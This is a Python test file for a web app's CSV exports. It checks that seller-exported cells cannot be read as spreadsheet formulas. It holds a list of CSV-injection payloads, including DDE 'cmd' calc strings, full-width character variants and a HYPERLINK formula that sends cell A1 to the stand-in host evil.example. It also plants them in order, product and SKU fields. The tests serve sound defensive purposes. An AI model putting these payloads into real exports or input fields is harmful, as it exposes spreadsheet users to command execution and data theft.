"""What sellers export is opened in spreadsheets: no cell of ours may calculate (SECURITY.md §3, CSV)."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.core import csv as ours
from app.core import db
from tests.security.stage import Stage

FORMULAS = [
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1+cmd",
    "＠SUM(1)",
    '=HYPERLINK("https://evil.example?"&A1,"open")',
    "x;=1+1",
    'x;"=1+1"',
    "x\n=1+1",
    "x\t-cmd|1",
    "=1;2\r\n=3",
]
STARTS = tuple("=+-@＝＋－＠")


def cells(text: str, delimiter: str) -> list[str]:
    """As a spreadsheet with that separator reads it, line ends inside of quotes included."""
    return [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for cell in row]


def calculates(cell: str, around: str = " \t\r\n") -> bool:
    """Whether a spreadsheet would take the cell for a formula; `around` is what some of them skip before it."""
    bare = cell.lstrip(around)
    return bare.startswith(STARTS) and not bare[1:].replace(".", "", 1).isdigit()


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
@pytest.mark.parametrize("formula", FORMULAS)
def test_no_formula_survives_whatever_the_separator(formula: str, delimiter: str) -> None:
    text = "".join(ours.lines(["Title", "Note"], [[formula, "plain"], ["plain", formula]]))
    assert [cell for cell in cells(text, delimiter) if calculates(cell, ' \t\r\n"')] == []


@given(st.text(alphabet="=+-@;,\t\r\n\"' aZ1.＝", max_size=12))
def test_no_text_at_all_becomes_one(text: str) -> None:
    line = "".join(ours.lines(["Title"], [["x", text]]))
    assert [cell for cell in cells(line.lstrip("\ufeff"), ",") if calculates(cell)] == []


@pytest.mark.parametrize("plain", ["-5", "+49", "-12.50", "Crab Nebula", "a-b; c", "100 %", "", "12.5"])
def test_numbers_and_words_stay_what_they_are(plain: str) -> None:
    assert ours.safe_cell(plain) == plain


def test_exports_of_orders_stock_and_ledger(stage: Stage) -> None:
    """Formulas as a buyer's name and e-mail, as a title and as a SKU: in no export do they calculate."""
    with db.workspace(stage.world.north.id):
        order, product, variant = (
            db.get(type(row), row.id) for row in map(stage.rows.get, ("order", "product", "variant"))
        )
        order.buyer_name, order.country = '=HYPERLINK("https://evil.example")', "GB"
        order.lines[0].title, order.lines[0].sku = "x;=1+1", "@SUM(1)"
        product.title, variant.sku = "+cmd|' /C calc'!A0", "=1+1"
    seller = stage.browser(stage.world.alice)
    exports = [path for _, _, path in stage.routes("GET") if path.endswith(".csv")]
    answers = {path: seller.get(f"{path}?view=all") for path in exports}
    found = {path: answer for path, answer in answers.items() if answer.status_code == 200}
    assert len(found) >= 3
    for path, answer in found.items():
        assert (answer.mimetype, answer.headers["X-Content-Type-Options"]) == ("text/csv", "nosniff")
        assert answer.headers["Content-Disposition"].startswith("attachment")
        text = answer.get_data(as_text=True).lstrip("\ufeff")
        for delimiter in (",", ";"):
            assert [cell for cell in cells(text, delimiter) if calculates(cell)] == [], path
    assert "HYPERLINK" in seller.get(f"/w/{stage.world.north.slug}/orders/export.csv?view=all").get_data(as_text=True)
